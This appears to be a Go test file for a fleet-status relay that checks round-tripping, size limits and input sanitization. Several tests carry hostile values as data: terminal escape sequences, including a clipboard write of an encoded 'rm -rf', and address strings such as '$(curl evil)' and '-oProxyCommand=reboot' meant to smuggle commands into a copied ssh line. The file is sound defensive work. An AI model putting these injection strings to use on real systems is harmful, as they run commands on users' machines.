package relay

import (
	"encoding/json"
	"errors"
	"fmt"
	"reflect"
	"runtime"
	"strings"
	"testing"
	"time"
	"unicode"

	"berth/model"
)

// A filler gives every field within a value a value of its own, so that a field that is lost shows.
type filler struct {
	next int
	text func(n int) string
}

func (f *filler) fill(t *testing.T, v reflect.Value) {
	t.Helper()
	f.next++
	if at, is := v.Addr().Interface().(*time.Time); is {
		*at = time.Unix(int64(1_700_000_000+f.next), 0).UTC()
		return
	}
	switch at := v.Addr().Interface().(type) {
	case *[]model.Machine: // a fleet of several isn't said by any machine
		return
	case *model.Order: // nor for which of several an order is
		defer func() { at.Machine = "" }()
	case *model.Span: // its text has whole seconds, as every span has
		*at = model.Span(time.Duration(f.next) * time.Second)
		return
	case *model.Mode:
		*at = model.ModeEntrypoint
		return
	}
	if maybe, is := v.Addr().Interface().(json.Unmarshaler); is { // a Maybe, whose parts nobody else can set
		if err := maybe.UnmarshalJSON(fmt.Append(nil, f.next)); err != nil {
			t.Fatalf("%s: %v", v.Type(), err)
		}
		return
	}
	switch v.Kind() {
	case reflect.String:
		v.SetString(f.text(f.next))
	case reflect.Bool:
		v.SetBool(true)
	case reflect.Int, reflect.Int64:
		v.SetInt(int64(f.next))
	case reflect.Uint64:
		v.SetUint(uint64(f.next))
	case reflect.Float64:
		v.SetFloat(float64(f.next) + 0.5)
	case reflect.Struct:
		for n := range v.NumField() {
			f.fill(t, v.Field(n))
		}
	case reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		f.fill(t, v.Elem())
	case reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), 2, 2))
		for n := range v.Len() {
			f.fill(t, v.Index(n))
		}
	case reflect.Map:
		v.Set(reflect.MakeMap(v.Type()))
		for range 2 {
			key, value := reflect.New(v.Type().Key()).Elem(), reflect.New(v.Type().Elem()).Elem()
			f.fill(t, key)
			f.fill(t, value)
			v.SetMapIndex(key, value)
		}
	default:
		t.Fatalf("the test can't fill a %s", v.Type())
	}
}

// full is a line in which every field has a value.
func full(t *testing.T, text func(n int) string) Line {
	t.Helper()
	f := filler{text: text}
	var l Line
	f.fill(t, reflect.ValueOf(&l).Elem())
	l.Account.Keys, l.Account.Env = nil, nil // which stay on their machine
	l.Fleet.Host.PublicIP = "192.0.2.1"
	for n := range l.Fleet.Devices {
		d := &l.Fleet.Devices[n]
		for e := range d.Events {
			d.Events[e].GPU = d.Board()
		}
	}
	return l
}

func words(n int) string { return fmt.Sprintf("wörter %d\n\t漢", n) }

func TestNothingOfAFleetIsLost(t *testing.T) {
	want := full(t, words)
	text, err := Write(want)
	if err != nil {
		t.Fatal(err)
	}
	got, err := Read(text, "here")
	if err != nil {
		t.Fatal(err)
	}
	compare(t, "", reflect.ValueOf(got), reflect.ValueOf(want))
}

// compare names each field in which two values differ.
func compare(t *testing.T, at string, got, want reflect.Value) {
	t.Helper()
	if reflect.DeepEqual(got.Interface(), want.Interface()) {
		return
	}
	switch {
	case want.Kind() == reflect.Struct && want.NumField() > 0 && want.Type().Field(0).IsExported():
		for n := range want.NumField() {
			compare(t, at+"."+want.Type().Field(n).Name, got.Field(n), want.Field(n))
		}
	case want.Kind() == reflect.Slice && got.Len() == want.Len():
		for n := range want.Len() {
			compare(t, fmt.Sprintf("%s[%d]", at, n), got.Index(n), want.Index(n))
		}
	default:
		t.Errorf("%s is %v, want %v", at, got, want)
	}
}

// No list is another thing than an empty one: an order without folders asks for the machine's defaults.
func TestAnEmptyListStaysOne(t *testing.T) {
	want := Line{Fleet: model.Fleet{Instances: []model.Instance{{ID: 1, Order: model.Order{Folders: []string{}}}, {ID: 2}}}}
	text, err := Write(want)
	if err != nil {
		t.Fatal(err)
	}
	got, err := Read(text, "here")
	if err != nil {
		t.Fatal(err)
	}
	if first, second := got.Fleet.Instances[0].Order.Folders, got.Fleet.Instances[1].Order.Folders; first == nil || second != nil {
		t.Errorf("the folders are %#v and %#v", first, second)
	}
}

func TestALineIsOneLine(t *testing.T) {
	text, err := Write(full(t, words))
	if err != nil {
		t.Fatal(err)
	}
	if n := strings.Count(string(text), "\n"); n != 1 || !strings.HasSuffix(string(text), "\n") {
		t.Errorf("it has %d line ends", n)
	}
}

func TestNoTextOfALineActsOnATerminal(t *testing.T) {
	const hostile = "x\x1b]52;c;cm0gLXJm\a\x1b]0;title\x1b\\\u009b31m\u202eevil\u2066\u200b\rroot# \x7f"
	n := 0
	text, err := Write(full(t, func(int) string { n++; return hostile + fmt.Sprint(n) }))
	if err != nil {
		t.Fatal(err)
	}
	got, err := Read(text, "here")
	if err != nil {
		t.Fatal(err)
	}
	if n < 100 {
		t.Fatalf("only %d texts were tried", n)
	}
	again, err := Write(got) // which follows every pointer
	if err != nil {
		t.Fatal(err)
	}
	var texts any
	if err := json.Unmarshal(again, &texts); err != nil {
		t.Fatal(err)
	}
	for _, r := range fmt.Sprint(texts) {
		if unicode.IsControl(r) || unicode.Is(unicode.Cf, r) {
			t.Fatalf("%U gets through", r)
		}
	}
}

func TestWhatIsNoLineIsRefusedInWords(t *testing.T) {
	for _, tt := range []struct {
		name, text string
		kind       error
		says       string
	}{
		{"a later schema", `{"schema": 7, "berth": "v9", "fleet": [1]}`, ErrSkew, "it has berth v9, which speaks another version (7) than berth v1 here (1)"},
		{"a version that acts on a terminal", `{"schema": 7, "berth": "v\u001b[2J"}`, ErrSkew, "berth v\ufffd[2J"},
		{"a greeting", "Welcome to box2!\x1b[2J\n", ErrNoLine, `"Welcome to box2!\ufffd[2J"`},
		{"other JSON", `{"id": 7}`, ErrNoLine, `{\"id\": 7}`},
		{"a fleet that isn't one", `{"schema": 1, "fleet": {"Devices": 7}}`, ErrNoLine, "Devices"},
		{"nothing", "", ErrNoLine, "it doesn't speak as berth does"},
	} {
		_, err := Read([]byte(tt.text), "v1")
		if !errors.Is(err, tt.kind) || !strings.Contains(strings.ReplaceAll(err.Error(), "\ufffd", `\ufffd`), strings.ReplaceAll(tt.says, "\ufffd", `\ufffd`)) {
			t.Errorf("%s: %v, want %s", tt.name, err, tt.says)
		}
	}
}

// What a later berth of the same schema adds is left out.
func TestAFieldThatIsntKnownIsLeftOut(t *testing.T) {
	l, err := Read([]byte(`{"schema": 1, "berth": "v2", "fleet": {"Host": {"Name": "box2", "Shoe": 44}}, "more": true}`), "v1")
	if err != nil || l.Fleet.Host.Name != "box2" {
		t.Errorf("%+v, %v", l, err)
	}
}

func FuzzRead(f *testing.F) {
	text, err := Write(Line{Berth: "v1", Fleet: model.Fleet{Devices: []model.Device{{Holder: model.Holder{Name: "a"}}}}})
	if err != nil {
		f.Fatal(err)
	}
	f.Add(text)
	f.Add([]byte(`{"schema": 1, "tenures": [{}], "ahead": {"1": [{}]}}`))
	f.Fuzz(func(t *testing.T, text []byte) {
		l, err := Read(text, "v1")
		if err != nil {
			return
		}
		again, err := Write(l)
		if err != nil {
			t.Fatal(err)
		}
		if second, err := Read(again, "v1"); err != nil || !reflect.DeepEqual(second.Fleet.Instances, l.Fleet.Instances) {
			t.Errorf("read again it is %+v (%v), not %+v", second, err, l)
		}
	})
}

// A line of other machines costs this program no more than a few times what a large fleet does: a short object becomes
// a long instance.
func TestALineIsBounded(t *testing.T) {
	for name, text := range map[string]string{
		"instances without end": `{"schema":1,"fleet":{"Instances":[` + strings.Repeat("{},", 2<<20) + `{}]}}`,
		"machines in machines":  `{"schema":1,"fleet":` + strings.Repeat(`{"Machines":[{"Fleet":`, 1<<20) + "{}" + strings.Repeat("}]}", 1<<20) + `}`,
		"waiters without end":   `{"schema":1,"ahead":{"1":[` + strings.Repeat("{},", 2<<20) + `{}]}}`,
	} {
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		_, err := Read([]byte(text), "v1")
		runtime.ReadMemStats(&after)
		if !errors.Is(err, ErrNoLine) {
			t.Errorf("%s: %v", name, err)
		}
		if cost := after.TotalAlloc - before.TotalAlloc; cost > 64<<20 {
			t.Errorf("%s: reading %d MB took %d MB", name, len(text)>>20, cost>>20)
		}
	}
	braces := strings.Repeat(`{\"`, 10<<10)
	l, err := Read([]byte(`{"schema":1,"fleet":{"Notices":["`+strings.Repeat("x", 1<<20)+`"],"Instances":[{"ID":1,"Message":"`+braces+`"}]}}`), "v1")
	if err != nil || len(l.Fleet.Notices[0]) > longestText || len(l.Fleet.Instances[0].Message) != 20<<10 {
		t.Errorf("a long text: %v", err)
	}
	for _, text := range []string{`{"schema":7,"berth":"` + strings.Repeat("v", 1<<20) + `"}`, `{"schema":1,"fleet":{"At":"` + strings.Repeat("v", 1<<20) + `"}}`} {
		if _, err := Read([]byte(text), "v1"); err == nil || len(err.Error()) > 2*longestText {
			t.Errorf("the error of a long text isn't bounded: %.200v", err)
		}
	}
}

// The address of a machine is a part of commands that people copy: `ssh -p 20000 root@ADDRESS`.
func TestAnAddressIsNothingElse(t *testing.T) {
	for said, want := range map[string]string{
		"192.0.2.1": "192.0.2.1", "2001:db8::1": "2001:db8::1", "": "",
		"192.0.2.1; curl evil | sh #": "", "$(curl evil)": "", "fe80::1%;reboot": "", "-oProxyCommand=reboot": "",
	} {
		text, err := Write(Line{Fleet: model.Fleet{Host: model.Host{PublicIP: said}}})
		if err != nil {
			t.Fatal(err)
		}
		if l, err := Read(text, "v1"); err != nil || l.Fleet.Host.PublicIP != want {
			t.Errorf("%q becomes %q, want %q (%v)", said, l.Fleet.Host.PublicIP, want, err)
		}
	}
}

func TestAnInstanceHasANumberThatABerthGives(t *testing.T) {
	l, err := Read([]byte(`{"schema":1,"fleet":{"Instances":[{"ID":-999999986},{},{"ID":14},{"ID":1000000014},{"ID":999999999}]}}`), "v1")
	if err != nil || len(l.Fleet.Instances) != 2 || l.Fleet.Instances[0].ID != 14 || l.Fleet.Instances[1].ID != model.MostInstanceID {
		t.Errorf("%+v, %v", l.Fleet.Instances, err)
	}
}
